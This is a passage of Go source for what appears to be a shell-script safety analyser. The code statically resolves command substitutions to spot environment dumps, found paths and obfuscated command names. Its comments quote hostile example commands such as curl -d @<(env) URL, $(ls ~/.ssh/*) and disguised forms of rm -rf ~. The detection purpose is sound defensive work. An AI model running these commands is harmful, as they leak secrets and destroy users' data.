// substitution when it is known statically, else the word is dynamic. It
// acts on the word being expanded, r.xenv's.
func (r *run) cmdSubstHook(out io.Writer, cs *syntax.CmdSubst) error {
	f, sc := r.xenv.f, r.xenv.sc
	if s, ok := r.substOutput(sc, cs); ok {
		f.expn = true
		_, err := io.WriteString(out, s)
		return err
	}
	r.xenv.dynamic("a command substitution")
	if why := r.substKind(sc, cs); why != "" {
		// $(env) holds the environment, secrets included (environSent
		// judges where it goes); $(pgrep -f .) every process's ID,
		// whatever folder pgrep's pattern may also name.
		f.why = why
		return nil
	}
	if starts := r.substFinds(sc, cs); len(starts) > 0 {
		// The paths it prints are what a find, ls or locate finds under
		// its starts: the word stands for everything under them.
		if r.found == nil {
			r.found = map[string][]field{}
		}
		why := fmt.Sprintf("paths found by a command substitution (%d)", len(r.found)+1)
		r.found[why] = starts
		f.why = why
	}
	return nil
}

// substFinds returns the start points of a command substitution whose
// output is paths found under them ($(find ~ -name x), $(ls ~/.ssh/*),
// $(locate .env | grep x)), or nil. The caller's expansion state is kept,
// as substKind keeps it.
func (r *run) substFinds(sc *scope, cs *syntax.CmdSubst) []field {
	if len(cs.Stmts) == 0 {
		return nil
	}
	saved, savedCfg := r.xenv, r.cfg
	defer func() { r.xenv, r.cfg = saved, savedCfg }()
	// The main walk links the substitution's pipes only after the word
	// holding it is expanded.
	for _, st := range cs.Stmts {
		walkTree(st, func(n syntax.Node) bool {
			if b, ok := n.(*syntax.BinaryCmd); ok {
				sc.linkPipe(b)
			}
			return true
		})
	}
	in := r.writersInput(sc, cs.Stmts, true)
	if !in.find {
		return nil
	}
	return slices.Clone(in.words)
}

// foundPaths replaces the words that stand for paths found by a command
// substitution with the substitution's start points, and says that the
// command's targets then stand for everything under them, as after xargs
// fed by find.
func (r *run) foundPaths(fs []field, c ctx) ([]field, ctx) {
	if r.found == nil {
		return fs, c
	}
	var out []field
	for i, f := range fs {
		starts, ok := r.found[f.why]
		if !ok || !f.dyn {
			if out != nil {
				out = append(out, f)
			}
			continue
		}
		if out == nil {
			out = append(make([]field, 0, len(fs)+2*len(starts)), fs[:i]...)
		}
		for _, st := range starts {
			st.contents = true // what is found under it, as after xargs fed by find
			if f.val != "" {
				// The word's known text before the paths (f=@$(find
				// ~ ...)): both readings, the prefixed one first.
				g := st
				g.val = f.val + st.val
				out = append(out, g)
			}
			out = append(out, st)
		}
		c.findTree = true
	}
	if out == nil {
		return fs, c
	}
	return out, c
}

// substKind tells what a substitution that is not static prints when that
// matters: the environment (whyEnviron), the IDs of every process or of
// one the host needs (whyAllPids) or a system service's (whyServicePids),
// else "". Reading it expands the substitution's own words,
// so the caller's expansion state is saved and restored around it, as
// substOutput does.
func (r *run) substKind(sc *scope, cs *syntax.CmdSubst) string {
	saved, savedCfg := r.xenv, r.cfg
	defer func() { r.xenv, r.cfg = saved, savedCfg }()
	switch {
	case r.substEnviron(sc, cs.Stmts):
		return whyEnviron
	}
	return r.substPids(sc, cs.Stmts)
}

// procEnviron reports whether f is a process substitution <(...) whose
// output holds the shell's environment (curl -d @<(env) URL), read as
// substEnviron reads a command substitution's.
func (r *run) procEnviron(sc *scope, f field) bool {
	if f.proc == 0 || int(f.proc) > len(r.procs) || r.procs[f.proc-1].Op != syntax.CmdIn {
		return false
	}
	saved, savedCfg := r.xenv, r.cfg
	defer func() { r.xenv, r.cfg = saved, savedCfg }()
	return r.substEnviron(sc, r.procs[f.proc-1].Stmts)
}

// substEnviron reports whether a command substitution's output holds the
// shell's environment: one of its statements is a dump of it (env,
// printenv, set, export -p, declare -p), alone or first in a pipeline,
// whatever the pipeline does with it after.
func (r *run) substEnviron(sc *scope, stmts []*syntax.Stmt) bool {
	for _, st := range stmts {
		first := pipeStages(st)[0]
		// The name decides before anything is expanded: a dump, or a
		// filter reading a here-document that may hold one.
		if call, ok := first.Cmd.(*syntax.CallExpr); ok && len(call.Args) > 0 {
			_, fn := sc.funcs[call.Args[0].Lit()] // f() { env; }; curl -d "$(f)"
			switch n := base(call.Args[0].Lit()); {
			case n == "env" || n == "printenv" || n == "set" || n == "export" || wrapsCommand(n) || fn || psEnvReaders[asciiLower(n)] ||
				environPrinters[n] != nil:
			case (n == "cat" || pathFilters[n] || encoders[n]) && len(first.Redirs) > 0:
			default:
				continue
			}
		}
		if r.pipeInput(sc, first, false).environ {
			return true
		}
	}
	return false
}

// pipeStages returns the stages of the pipeline st, first to last (st
// alone when it is not a pipeline).
func pipeStages(st *syntax.Stmt) []*syntax.Stmt {
	// a | b | c parses as (a | b) | c: the left operands are followed
	// without recursion, however long the pipeline (a bound here would
	// leave the first stages of a long one unread, and what they print
	// unjudged).
	var rights []*syntax.Stmt
	for {
		b := asPipe(st)
		if b == nil {
			break
		}
		rights = append(rights, b.Y)
		st = b.X
	}
	out := []*syntax.Stmt{st}
	for i := len(rights) - 1; i >= 0; i-- {
		out = append(out, pipeStages(rights[i])...)
	}
	return out
}

// asPipe returns st's command when it is a pipe (a | b, a |& b), else
// nil.
func asPipe(st *syntax.Stmt) *syntax.BinaryCmd {
	if b, ok := st.Cmd.(*syntax.BinaryCmd); ok && (b.Op == syntax.Pipe || b.Op == syntax.PipeAll) {
		return b
	}
	return nil
}

// firstStage returns the first stage of a pipeline, st itself when st is
// no pipeline: pipeStages(st)[0] without gathering the others.
func firstStage(st *syntax.Stmt) *syntax.Stmt {
	for {
		b := asPipe(st)
		if b == nil {
			return st
		}
		st = b.X
	}
}

// argv returns the expanded words of a simple command statement, or nil
// when st is not one or its name is not static.
func (r *run) argv(sc *scope, st *syntax.Stmt) []field {
	call, ok := st.Cmd.(*syntax.CallExpr)
	if !ok || len(call.Args) == 0 {
		return nil
	}
	fs := r.words(sc, call.Args)
	if len(fs) == 0 || fs[0].dyn {
		return nil
	}
	return fs
}

// procSubstHook is the expansion's ProcSubst: a process substitution makes
// the word dynamic.
func (r *run) procSubstHook(ps *syntax.ProcSubst) (string, error) {
	r.xenv.dynamic(whyProcSubst)
	r.xenv.f.why = whyProcSubst
	if len(r.procs) < math.MaxUint16 {
		r.procs = append(r.procs, ps)
		r.xenv.f.proc = uint16(len(r.procs))
	}
	return "/dev/fd/63", nil
}

// simpleParam returns the name of a plain $NAME or ${NAME} expansion.
func simpleParam(p syntax.WordPart) (string, bool) {
	pe, ok := p.(*syntax.ParamExp)
	if !ok || pe.Param == nil || pe.Excl || pe.Length || pe.Width || pe.IsSet || pe.Index != nil ||
		pe.Slice != nil || pe.Repl != nil || pe.Names != 0 || pe.Exp != nil || pe.NestedParam != nil || pe.Flags != nil {
		return "", false
	}
	return pe.Param.Value, isName(pe.Param.Value)
}

// paramWord expands, without the expand package, a word made of literals
// and plain variables ("$DIST/x", ${HOME}/y), the common case in scripts.
// It reports false when the word needs the full expansion.
func (r *run) paramWord(sc *scope, w *syntax.Word, f *field) bool {
	// The pieces are joined once at the end: most words are one or two.
	var buf [8]string
	pieces := buf[:0]
	env := exEnv{r: r, sc: sc, pos: w.Pos().Offset(), f: f}
	part := func(p syntax.WordPart, quoted, first bool) bool {
		switch p := p.(type) {
		case *syntax.Lit:
			if strings.ContainsRune(p.Value, '\\') || first && !quoted && strings.HasPrefix(p.Value, "~") {
				return false
			}
			pieces = append(pieces, p.Value)
		case *syntax.SglQuoted:
			if p.Dollar || quoted {
				return false
			}
			pieces = append(pieces, p.Value)
		default:
			name, ok := simpleParam(p)
			if !ok || name == "PWD" && r.cwd == "" {
				return false
			}
			v := env.Get(name)
			if !v.IsSet() && !f.dyn || v.Kind == expand.Indexed {
				return false // an array's $arr is its first element: the expand package reads it
			}
			if !quoted && (strings.ContainsAny(v.Str, " \t\n*?[") || sc.setsIFS()) {
				return false // split or matched: the expand package's
			}
			pieces = append(pieces, v.Str)
		}
		return true
	}
	for i, p := range w.Parts {
		if dq, ok := p.(*syntax.DblQuoted); ok {
			if dq.Dollar {
				return false
			}
			for _, q := range dq.Parts {
				if !part(q, true, false) {
					return false
				}
			}
			continue
		}
		if !part(p, false, i == 0) {
			return false
		}
	}
	if f.dyn {
		// An unknown unquoted variable may split into any number of
		// fields; the value stays what is known.
		f.expn = true
	}
	if len(pieces) == 1 {
		f.val = pieces[0]
	} else {
		f.val = strings.Join(pieces, "")
	}
	return true
}

// simpleWord returns the value of a word that needs no expansion: one
// literal without escapes or a leading ~, or one plain quoted string.
func simpleWord(w *syntax.Word) (string, bool) {
	if len(w.Parts) != 1 {
		return "", false
	}
	switch p := w.Parts[0].(type) {
	case *syntax.Lit:
		v := p.Value
		for i := 0; i < len(v); i++ {
			if v[i] == '\\' || v[i] == '~' {
				return "", false
			}
		}
		return v, true
	case *syntax.SglQuoted:
		if !p.Dollar {
			return p.Value, true
		}
	case *syntax.DblQuoted:
		if p.Dollar {
			return "", false
		}
		if len(p.Parts) == 0 {
			return "", true
		}
		if l, ok := p.Parts[0].(*syntax.Lit); ok && len(p.Parts) == 1 && !strings.ContainsRune(l.Value, '\\') {
			return l.Value, true
		}
	}
	return "", false
}

func hasExpansion(w *syntax.Word) bool {
	found := false
	walkTree(w, func(n syntax.Node) bool {
		switch n.(type) {
		case *syntax.ParamExp, *syntax.CmdSubst, *syntax.ArithmExp, *syntax.ProcSubst:
			found = true
		}
		return !found
	})
	return found
}

// hasGlob reports unquoted pattern characters in a word.
func hasGlob(w *syntax.Word) bool {
	for _, p := range w.Parts {
		switch p := p.(type) {
		case *syntax.Lit:
			v := p.Value
			for i := 0; i < len(v); i++ {
				switch v[i] {
				case '\\':
					i++
				case '*', '?':
					return true
				case '[':
					if strings.IndexByte(v[i+1:], ']') >= 0 {
						return true
					}
				}
			}
		case *syntax.ExtGlob:
			return true
		}
	}
	return false
}

// substOutput is the output of a command substitution that can be known
// statically (see staticOutput).
func (r *run) substOutput(sc *scope, cs *syntax.CmdSubst) (string, bool) {
	// The words expand as bash would: ~, $HOME and static variables, in a
	// state of their own (the caller's expansion is in progress).
	saved, savedCfg, savedCwd := r.xenv, r.cfg, r.cwd
	defer func() { r.xenv, r.cfg, r.cwd = saved, savedCfg, savedCwd }()
	return r.staticOutput(sc, cs.Stmts, cs.Pos().Offset(), 0)
}

// maxStaticOutput bounds the evals staticOutput follows.
const maxStaticOutput = 4

// staticOutput is the output of statements that can be known statically:
// echo or printf of static words, pwd, and realpath, readlink -f, dirname
// and basename of static paths; after any cd before them (cd ~ && pwd),
// and through command, builtin, env, nohup and eval of static words
// ($(eval echo ~)). Anything else reports false, and the word holding it
// is dynamic. It moves r.cwd as cd would; the caller restores it.
func (r *run) staticOutput(sc *scope, stmts []*syntax.Stmt, pos uint, depth int) (string, bool) {
	if depth > maxStaticOutput || namesScriptFunc(sc, stmts) {
		return "", false
	}
	if len(stmts) == 1 {
		if out, ok, handled := r.decodedOutput(sc, stmts[0], pos, depth); handled {
			return out, ok
		}
	}
	var calls []*syntax.CallExpr
	for _, s := range stmts {
		if !andChain(s, &calls) {
			return "", false
		}
	}
	for i, call := range calls {
		var parts []string
		for _, f := range r.words(sc, call.Args) {
			if f.dyn {
				return "", false
			}
			parts = append(parts, f.val)
		}
		parts = unwrapStatic(parts)
		if len(parts) == 0 {
			return "", false
		}
		if i < len(calls)-1 {
			// Only cd may come before the command whose output it is.
			if base(parts[0]) != "cd" || !r.staticCd(parts[1:]) {
				return "", false
			}
			continue
		}
		return r.staticCommand(sc, parts, pos, depth)
	}
	return "", false
}

// namesScriptFunc reports whether a command of stmts names, in a word
// of its own, a function the script defines: its output is then the
// function's, not that of the program the analyser knows by that name
// (echo() { command echo ~; }; rm -rf "$(echo build)"), and a wrapper
// (command echo, env echo) may still name either.
func namesScriptFunc(sc *scope, stmts []*syntax.Stmt) bool {
	if len(sc.funcs) == 0 {
		return false
	}
	found := false
	for _, s := range stmts {
		syntax.Walk(s, func(n syntax.Node) bool {
			if c, ok := n.(*syntax.CallExpr); ok && !found {
				for _, w := range c.Args {
					if _, ok := sc.funcs[w.Lit()]; ok && w.Lit() != "" {
						found = true
					}
				}
			}
			return !found
		})
	}
	return found
}

// andChain appends to calls the simple commands of s, a statement or an
// && list of them, and reports false for anything else (a redirection,
// an assignment, a pipe, ||, a compound command).
func andChain(s *syntax.Stmt, calls *[]*syntax.CallExpr) bool {
	if s == nil || len(s.Redirs) > 0 || s.Negated || s.Background || s.Coprocess || len(*calls) > 8 {
		return false
	}
	switch c := s.Cmd.(type) {
	case *syntax.CallExpr:
		if len(c.Args) == 0 || len(c.Assigns) > 0 {
			return false
		}
		*calls = append(*calls, c)
		return true
	case *syntax.BinaryCmd:
		return c.Op == syntax.AndStmt && andChain(c.X, calls) && andChain(c.Y, calls)
	}
	return false
}

// wrapsCommand reports whether innerCommand looks through the program
// b to the command it runs (sudo, env, nohup, stdbuf, ...): a check
// that picks commands by their names before expanding their words
// passes such a name on too.
func wrapsCommand(b string) bool {
	switch b {
	case "sudo", "doas", "command", "builtin", "nohup", "env", "busybox", "toybox":
		return true
	}
	ce := builtinCatalog()[b]
	return ce != nil && ce.pure
}

// innerCommand returns the command a line of wrappers runs, whose output
// is theirs (timeout 5 echo CMD | sh is echo CMD | sh): the catalogue's
// pure wrappers (pureWrapper), sudo and doas, command, builtin, nohup
// and env with assignments, and busybox and toybox, which run the applet
// their first argument names (busybox env prints as env does). Any other
// program is left as it is.
func innerCommand(fs []field) []field {
	for range maxStaticOutput {
		if len(fs) < 2 || fs[0].dyn {
			return fs
		}
		b := base(fs[0].val)
		if b == "sudo" || b == "doas" {
			// sudo [options] CMD, doas [-u USER] CMD: the command's output.
			rest := skipOpts(fs[1:], sudoSpec)
			if len(rest) == 0 || rest[0].dyn || strings.HasPrefix(rest[0].val, "-") {
				return fs
			}
			fs = rest
			continue
		}
		if b == "busybox" || b == "toybox" {
			if fs[1].dyn || strings.HasPrefix(fs[1].val, "-") {
				return fs
			}
			fs = fs[1:]
			continue
		}
		if ce := builtinCatalog()[b]; ce != nil && ce.pure {
			var buf [8]field
			var obuf [4]roleValue
			p := parseLine(ce, fs[1:], buf[:0])
			vals, _ := operandRoles(ce.e, p.ops, obuf[:0], p.shifted)
			i := slices.IndexFunc(vals, func(v roleValue) bool { return v.role == RoleCommand && len(v.rest) > 0 })
			if i < 0 {
				return fs
			}
			fs = vals[i].rest
			continue
		}
		switch b {
		case "command", "builtin", "nohup", "env":
		default:
			return fs
		}
		var buf [8]string // most commands fit: the list stays on the stack
		parts := buf[:0]
		for _, f := range fs {
			v := f.val
			if name, _, ok := strings.Cut(v, "="); f.dyn && !(ok && isName(name)) {
				v = "\x00" // a word not known: neither an option nor an assignment (NAME=$X is one)
			}
			parts = append(parts, v)
		}
		inner := unwrapStatic(parts)
		if len(inner) == len(parts) || inner[0] == "\x00" {
			return fs
		}
		fs = fs[len(fs)-len(inner):]
	}
	return fs
}

// pureWrapper reports whether an entry only runs the command an operand
// gives (timeout, nice, taskset): no reading of its own, options that are
// values, operands that are data before the command.
func pureWrapper(e *Entry) bool {
	if e.special != nil || len(e.Subcommands) > 0 || len(e.Env) > 0 {
		return false
	}
	for _, o := range e.Options {
		if o.Role != "" {
			return false
		}
	}
	command := false
	for _, o := range e.Operands {
		switch o.Role {
		case RoleCommand:
			command = true
		case RoleData:
		default:
			return false
		}
	}
	return command
}

// unwrapStatic drops the wrappers that print what the command they run
// prints: command, builtin, env (with assignments only), nohup.
func unwrapStatic(parts []string) []string {
	for range maxStaticOutput {
		if len(parts) < 2 {
			return parts
		}
		switch base(parts[0]) {
		case "command", "builtin", "nohup":
			if strings.HasPrefix(parts[1], "-") {
				return parts
			}
			parts = parts[1:]
		case "env":
			rest := parts[1:]
			for len(rest) > 0 && strings.IndexByte(rest[0], '=') > 0 && !strings.HasPrefix(rest[0], "-") {
				rest = rest[1:]
			}
			if len(rest) == 0 || strings.HasPrefix(rest[0], "-") {
				return parts
			}
			parts = rest
		default:
			return parts
		}
	}
	return parts
}

// staticCd moves r.cwd as cd with args would, reporting false where that
// cannot be known (cd -, a relative folder from an unknown one).
func (r *run) staticCd(args []string) bool {
	for len(args) > 0 && (args[0] == "-P" || args[0] == "-L" || args[0] == "--") {
		args = args[1:]
	}
	switch {
	case len(args) == 0:
		r.cwd = r.a.home
	case len(args) > 1 || args[0] == "-" || args[0] == "":
		return false
	default:
		d, ok := r.lexicalAbs(args[0])
		if !ok {
			return false
		}
		r.cwd = d
	}
	return true
}

// lexicalAbs returns v made absolute against the working folder and
// cleaned, without the file system; false when v is relative and the
// folder is unknown.
func (r *run) lexicalAbs(v string) (string, bool) {
	v = r.a.slash(v)
	if !r.a.isAbs(v) {
		if r.cwd == "" {
			return "", false
		}
		v = strings.TrimSuffix(r.cwd, "/") + "/" + v
	}
	return r.a.clean(v), true
}

// staticCommand is the output of one static command line (see
// staticOutput).
func (r *run) staticCommand(sc *scope, parts []string, pos uint, depth int) (string, bool) {
	args := parts[1:]
	switch base(parts[0]) {
	case "echo", "printf":
		return printedBy(base(parts[0]), args, false, r.echo) // a substitution drops the final newlines
	case "pwd":
		return r.cwd, r.cwd != ""
	case ":", "true", "false":
		return "", true // r$(:)m -rf ~ is rm -rf ~
	case "which", "command", "type":
		// which NAME, command -v NAME and type -P NAME print where NAME
		// runs from: a program of that name, judged by its name (the
		// folder on PATH is not known, and may be any), so $(which rm)
		// -rf ~ is rm -rf ~. A bare name is printed as a path in a
		// system folder, as it would be found there, so that a copy of
		// it is a copy of the installed program (cp $(which rm) ./cat);
		// command -v prints a builtin's name as it is.
		switch {
		case base(parts[0]) == "which" && len(args) == 1 && !strings.HasPrefix(args[0], "-"):
		case base(parts[0]) == "command" && len(args) == 2 && args[0] == "-v",
			base(parts[0]) == "type" && len(args) == 2 && (args[0] == "-P" || args[0] == "-p"):
			args = args[1:]
		default:
			return "", false
		}
		name := args[0]
		if name == "" || strings.ContainsRune(name, '/') || base(parts[0]) == "command" && shellBuiltin(name) {
			return name, name != ""
		}
		return "/usr/bin/" + name, true
	case "whoami", "logname":
		return r.a.userName(), len(args) == 0 && r.a.userName() != ""
	case "id":
		// id -un (or -nu, -u -n): the user's name.
		if flags := strings.Join(args, ""); len(args) > 0 && len(args) <= 2 && strings.Count(flags, "-") == len(args) &&
			strings.Trim(flags, "-un") == "" && strings.Count(flags, "u") == 1 && strings.Count(flags, "n") == 1 {
			return r.a.userName(), r.a.userName() != ""
		}
		return "", false
	case "realpath", "grealpath", "readlink", "greadlink":
		// The path as the program prints it, made absolute; links in it
		// are resolved with the rest of the word.
		var paths []string
		canon := base(parts[0]) != "readlink" && base(parts[0]) != "greadlink"
		for _, a := range args {
			switch {
			case a == "-f" || a == "-e" || a == "-m" || strings.HasPrefix(a, "--canonicalize"):
				canon = true
			case a == "-q" || a == "-s" || a == "-z" || a == "--quiet" || a == "--":
			case strings.HasPrefix(a, "-"):
				return "", false
			default:
				paths = append(paths, a)
			}
		}
		if !canon || len(paths) != 1 {
			return "", false
		}
		return r.lexicalAbs(paths[0])
	case "dirname", "basename":
		if len(args) > 0 && args[0] == "--" {
			args = args[1:]
		}
		if len(args) == 0 || len(args) > 2 || strings.HasPrefix(args[0], "-") || base(parts[0]) == "dirname" && len(args) != 1 {
			return "", false
		}
		p := r.a.slash(args[0])
		if base(parts[0]) == "dirname" {
			return path.Dir(p), true
		}
		b := path.Base(p)
		if len(args) == 2 && b != args[1] {
			b = strings.TrimSuffix(b, args[1])
		}
		return b, true
	case "eval":
		text := strings.Join(args, " ")
		if text == "" || len(text) > r.a.maxBytes {
			return "", false
		}
		f, err := r.parse(text)
		if err != nil {
			return "", false
		}
		sub := &scope{src: text, depth: sc.depth + 1, inherit: r.known(sc, pos)}
		return r.staticOutput(sub, f.Stmts, 0, depth+1)
	}
	return "", false
}

func bound(s string) string {
	if len(s) <= 400 {
		return s
	}
	return s[:397] + "..."
}

// base is the command name without its folder (and .exe on Windows).
func base(name string) string {
	for i := len(name) - 1; i >= 0; i-- {
		if name[i] == '/' || name[i] == '\\' {
			name = name[i+1:]
			break
		}
	}
	// A Windows program's extension, in any case: the name is then read
	// in lower case, as Windows reads it.
	if n := len(name); n > 4 && name[n-4] == '.' {
		switch asciiLower(name[n-3:]) {
		case "exe", "com", "cmd", "bat":
			return asciiLower(name[:n-4])
		}
	}
	return name
}
